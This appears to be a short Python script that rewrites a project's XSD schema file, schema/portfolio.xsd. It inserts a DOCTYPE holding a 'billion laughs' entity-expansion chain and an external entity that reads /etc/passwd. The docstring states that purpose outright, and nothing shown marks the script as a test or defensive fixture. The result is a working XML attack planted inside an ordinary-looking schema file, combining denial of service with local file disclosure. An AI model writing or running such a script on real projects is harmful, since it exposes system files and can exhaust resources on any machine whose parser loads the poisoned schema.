"""The XSD of the programme folder asks for a file of the system, and for a billion laughs."""
import pathlib

path = pathlib.Path("schema/portfolio.xsd")
text = path.read_text(encoding="utf-8")
head, body = text.split("\n", 1)
laughs = '<!ENTITY a "ha">' + "".join(f'<!ENTITY {new} "{10 * f"&{old};"}">' for old, new in zip("abcdefgh", "bcdefghi"))
path.write_text(f'{head}\n<!DOCTYPE x [{laughs}<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n{body}', encoding="utf-8")
